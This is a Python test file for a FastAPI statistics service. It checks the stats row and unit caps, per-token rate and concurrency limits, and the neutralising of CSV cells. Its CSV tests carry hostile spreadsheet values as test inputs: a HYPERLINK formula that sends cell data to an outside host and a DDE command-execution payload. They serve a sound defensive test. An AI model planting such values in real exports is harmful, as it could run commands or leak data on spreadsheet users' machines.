"""Bounded cost per request (issue 11): the row cap of /v1/stats, the per-token rate and
concurrency limits (429 + Retry-After), and CSV cells no spreadsheet runs as formulas. Through
the real app, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import itertools
from collections import Counter

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from conftest import FakeClock, make_settings
from helpers import add_number, bearer, create_tenant, get_token
from wastats.api.limits import RequestLimiter
from wastats.app import create_app
from wastats.counting.model import Bucket, CountedUnit, UnitKind
from wastats.domain.accounts import load_zone
from wastats.domain.csvsafe import FORMULA_PREFIXES, csv_line, safe_cell
from wastats.settings import Settings
from wastats.store import counts as counts_repo
from wastats.store import units as units_repo
from wastats.store.db import Database
from webhooks import at, deliver, status

STATS = "/v1/stats"
NUMBERS = "/api/whatsapp/getWhatsApp"
_ids = itertools.count(1)


def seed(settings: Settings, pnid: str, units: list[tuple[int, str, str | None]]) -> None:
    """Counted units (UTC time, category, country) in the incoming bucket, with their rollups,
    through the units repository as the pipeline writes them (categories and countries come
    from webhooks: any string)."""
    db = Database(settings.database_url)
    try:
        with db.write() as conn:
            zone = load_zone("UTC")
            seeded = []
            for ts, category, country in units:
                n = next(_ids)
                unit = CountedUnit(
                    unit_key=f"I:limits-{n}:{ts}", kind=UnitKind.INCOMING_SESSION, timestamp=ts,
                    bucket=Bucket.INCOMING, category=category, pricing_type="regular", era=None,
                    user_key=f"u{ts}", country=country,
                )  # fmt: skip
                seeded.append((pnid, unit))
            units_repo.write(conn, seeded, [])
            counts_repo.apply_deltas(
                conn, Counter(counts_repo.rollup_key(p, unit, zone) for p, unit in seeded)
            )
    finally:
        db.dispose()


# --- the row cap ----------------------------------------------------------------------------


def test_a_question_that_can_exceed_the_row_cap_is_refused_before_the_work(
    database_url: str,
) -> None:
    settings = make_settings(database_url, max_stats_rows=500)
    tenant = create_tenant(settings, "Shop", "UTC")
    for i in range(3):
        add_number(settings, tenant, f"1555078388{i}")
    with TestClient(create_app(settings, clock=FakeClock())) as client:
        token = get_token(client, tenant)
        # 365 days x 3 numbers = 1095 possible rows > 500, whatever the data holds.
        params = {"from": "2025-01-01", "to": "2025-12-31", "granularity": "day",
                  "group_by": "number,country", "unique": "true"}  # fmt: skip
        response = client.get(STATS, params=params, headers=bearer(token))
        assert response.status_code == 422
        assert response.headers["content-type"] == "application/problem+json"
        problem = response.json()
        assert problem["title"] == "Answer too large"
        assert (problem["max_rows"], problem["rows"]) == (500, 1095)
        assert "the limit is 500" in problem["detail"]
        assert "coarser granularity" in problem["detail"]
        # The same question by week fits, and so does the CSV of it.
        params["granularity"] = "week"
        assert client.get(STATS, params=params, headers=bearer(token)).status_code == 200
        params["format"] = "csv"
        assert client.get(STATS, params=params, headers=bearer(token)).status_code == 200


def test_rows_multiplied_by_the_data_stop_at_the_cap(database_url: str) -> None:
    """Countries are only known from the data: the grouping stops as it passes the cap."""
    settings = make_settings(database_url, max_stats_rows=10)
    tenant = create_tenant(settings, "Shop", "UTC")
    pnid = add_number(settings, tenant, "15550783881")
    t = at("2025-03-10 10:00")
    seed(settings, pnid, [(t + i, "service", f"{i:02d}") for i in range(11)])
    with TestClient(create_app(settings, clock=FakeClock())) as client:
        headers = bearer(get_token(client, tenant))
        params = {"from": "2025-03", "to": "2025-03", "group_by": "country"}
        response = client.get(STATS, params=params, headers=headers)
        assert response.status_code == 422, response.text
        assert response.json()["max_rows"] == 10
        assert "more than 10 rows" in response.json()["detail"]
        # Without the country breakdown it is one row.
        del params["group_by"]
        assert len(client.get(STATS, params=params, headers=headers).json()["rows"]) == 1


def test_a_question_that_reads_too_many_units_is_refused_before_reading_them(
    database_url: str,
) -> None:
    settings = make_settings(database_url, max_stats_units=1000)
    tenant = create_tenant(settings, "Shop", "UTC")
    pnid = add_number(settings, tenant, "15550783881")
    t = at("2025-03-10 10:00")
    seed(settings, pnid, [(t + i, "service", "IL") for i in range(1001)])
    with TestClient(create_app(settings, clock=FakeClock())) as client:
        headers = bearer(get_token(client, tenant))
        params = {"from": "2025-03", "to": "2025-03", "granularity": "day"}
        response = client.get(STATS, params=params, headers=headers)
        assert response.status_code == 422, response.text
        problem = response.json()
        assert (problem["max_units"], problem["units"]) == (1000, 1001)
        assert "reads about 1001 counted units; the limit is 1000" in problem["detail"]
        # The monthly rollups answer the same range without reading a unit: no limit there.
        del params["granularity"]
        answer = client.get(STATS, params=params, headers=headers).json()
        assert answer["totals"]["incoming"] == 1001
        # A range without those units reads none of them.
        params.update({"from": "2025-05", "to": "2025-05", "granularity": "day"})
        assert client.get(STATS, params=params, headers=headers).status_code == 200


# --- per-token rate and concurrency ---------------------------------------------------------


def test_the_rate_limit_is_per_token_with_retry_after(database_url: str) -> None:
    settings = make_settings(database_url, api_burst=3, api_rate_per_minute=60)
    clock = FakeClock()
    tenant = create_tenant(settings, "Shop", "UTC")
    with TestClient(create_app(settings, clock=clock)) as client:
        mine, other = get_token(client, tenant), get_token(client, tenant)
        for _ in range(3):
            assert client.get(STATS, headers=bearer(mine)).status_code == 200
        refused = client.get(STATS, headers=bearer(mine))
        assert refused.status_code == 429
        assert refused.headers["retry-after"] == "1"
        assert refused.headers["content-type"] == "application/problem+json"
        assert refused.json()["title"] == "Too Many Requests"
        # The compatible API: HTTP 429 too, in its own envelope.
        partners = client.get(NUMBERS, headers=bearer(mine))
        assert partners.status_code == 429
        assert partners.headers["retry-after"] == "1"
        assert partners.json()["status"] == "FAIL"
        assert partners.json()["reason"] == 429
        # Another token is not affected; webhooks and health never are.
        assert client.get(STATS, headers=bearer(other)).status_code == 200
        assert client.get("/healthz").status_code == 200
        # One second later one more request is allowed (60 per minute), and no more.
        clock.advance(1)
        assert client.get(STATS, headers=bearer(mine)).status_code == 200
        assert client.get(STATS, headers=bearer(mine)).status_code == 429


def test_requests_without_a_token_are_limited_by_address(database_url: str) -> None:
    settings = make_settings(database_url, api_burst=2, forwarded_allow_ips="*")
    with TestClient(create_app(settings, clock=FakeClock())) as client:
        assert [client.get(STATS).status_code for _ in range(3)] == [401, 401, 429]
        other = {"X-Forwarded-For": "192.0.2.7"}
        assert client.get(STATS, headers=other).status_code == 401


def test_a_finished_request_gives_its_slot_back(database_url: str) -> None:
    """With one request at a time allowed, sequential requests all pass (each releases)."""
    settings = make_settings(database_url, api_concurrency=1)
    tenant = create_tenant(settings, "Shop", "UTC")
    with TestClient(create_app(settings, clock=FakeClock())) as client:
        headers = bearer(get_token(client, tenant))
        statuses = {client.get(STATS, headers=headers).status_code for _ in range(5)}
        statuses |= {client.get(STATS, params={"format": "csv"}, headers=headers).status_code}
        statuses |= {client.get(STATS, params={"to": "x"}, headers=headers).status_code}
        assert statuses == {200, 422}
        assert client.get(STATS, headers=headers).status_code == 200


def test_the_limiter_counts_requests_in_progress() -> None:
    clock = FakeClock()
    limiter = RequestLimiter(rate_per_minute=60, burst=10, concurrency=2, clock=clock)
    assert limiter.acquire("a") is None
    assert limiter.acquire("a") is None
    assert limiter.acquire("a") == 1.0  # two in progress
    assert limiter.acquire("b") is None  # per key
    limiter.release("a")
    assert limiter.acquire("a") is None


@given(st.lists(st.sampled_from(["acquire", "release", "tick"]), max_size=60))
def test_the_limiter_never_grants_more_than_the_rate_allows(steps: list[str]) -> None:
    clock = FakeClock()
    limiter = RequestLimiter(rate_per_minute=60, burst=3, concurrency=2, clock=clock)
    granted = held = 0
    elapsed = 0.0
    for step in steps:
        if step == "acquire":
            if limiter.acquire("k") is None:
                granted += 1
                held += 1
                assert held <= 2
        elif step == "release" and held:
            limiter.release("k")
            held -= 1
        elif step == "tick":
            clock.advance(0.5)
            elapsed += 0.5
        # Never more than the burst plus what the rate refilled.
        assert granted <= 3 + elapsed * 1.0


# --- CSV cells ------------------------------------------------------------------------------


@given(st.one_of(st.text(), st.integers(), st.booleans(), st.none()))
def test_safe_cell_neutralises_exactly_the_formula_cells(value: object) -> None:
    safe = safe_cell(value)
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        assert safe == "'" + value  # shown as the original text, never evaluated
    else:
        assert safe is value
    if isinstance(safe, str):
        assert not safe.startswith(FORMULA_PREFIXES)


@given(st.lists(st.one_of(st.text(alphabet="=+-@\t\r\n'\",a1 ", max_size=6), st.text()),
                max_size=8))  # fmt: skip
def test_a_written_line_reads_back_as_its_cells_and_none_starts_a_formula(row: list[str]) -> None:
    line = csv_line(row)
    assert line.endswith("\n")
    (read,) = list(csv.reader(io.StringIO(line, newline="")))
    if row == [] or row == [""]:
        assert read in ([], [""])
        return
    # The same cells, each unchanged or behind one quote; no row forged by a CR or LF.
    assert read == [str(safe_cell(cell)) for cell in row]
    for cell in read:
        assert not cell.startswith(FORMULA_PREFIXES)


def test_the_csv_download_neutralises_cells_from_webhooks(database_url: str) -> None:
    settings = make_settings(database_url)
    tenant = create_tenant(settings, "Shop", "UTC")
    pnid = add_number(settings, tenant, "15550783881")
    t = at("2025-03-10 10:00")
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1-2", "-3+4", "@SUM(A1)",
               "\t=1+1", "\r=1+1"]  # fmt: skip
    # Countries are two letters that wastats derives (not webhook text); neutralised anyway.
    countries = ["=1", "+1", "-1", "@1", "\t=", "\r="]
    seed(settings, pnid, [(t + i, c, countries[i]) for i, c in enumerate(hostile)])
    with TestClient(create_app(settings, clock=FakeClock())) as client:
        headers = bearer(get_token(client, tenant))
        params = {"from": "2025-03", "to": "2025-03", "group_by": "category,country",
                  "format": "csv"}  # fmt: skip
        response = client.get(STATS, params=params, headers=headers)
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        assert sorted(r["category"] for r in rows) == sorted("'" + c for c in hostile)
        assert sorted(r["country"] for r in rows) == sorted("'" + c for c in countries)
        for row in rows:
            assert not any(cell.startswith(FORMULA_PREFIXES) for cell in row.values())
        # JSON is data, not a spreadsheet: the values stay as they came.
        del params["format"]
        answer = client.get(STATS, params=params, headers=headers).json()
        assert sorted(r["category"] for r in answer["rows"]) == sorted(hostile)


def test_a_pricing_type_from_a_signed_webhook_reaches_the_csv_only_neutralised(
    settings: Settings,
) -> None:
    """End to end: Meta's `pricing.type` is kept as sent (lower-cased) and grouped on."""
    tenant = create_tenant(settings, "Shop", "UTC")
    add_number(settings, tenant, "15550783881", "106540352242922")
    metadata = {"display_phone_number": "1", "phone_number_id": "106540352242922"}
    hostile = "=cmd|' /C calc'!A0"
    sent = status("w1", "sent", at("2025-03-10 10:00"), pricing=("PMP", "marketing", hostile))
    delivered = status("w1", "delivered", at("2025-03-10 10:00") + 2)
    with TestClient(create_app(settings, clock=FakeClock(at("2025-03-20 10:00")))) as client:
        deliver(client, {**sent, "metadata": metadata}, {**delivered, "metadata": metadata})
        params = {"from": "2025-03", "to": "2025-03", "group_by": "category", "format": "csv"}
        response = client.get(STATS, params=params, headers=bearer(get_token(client, tenant)))
        (row,) = list(csv.DictReader(io.StringIO(response.text, newline="")))
        assert row["pricing"] == "'" + hostile.lower()
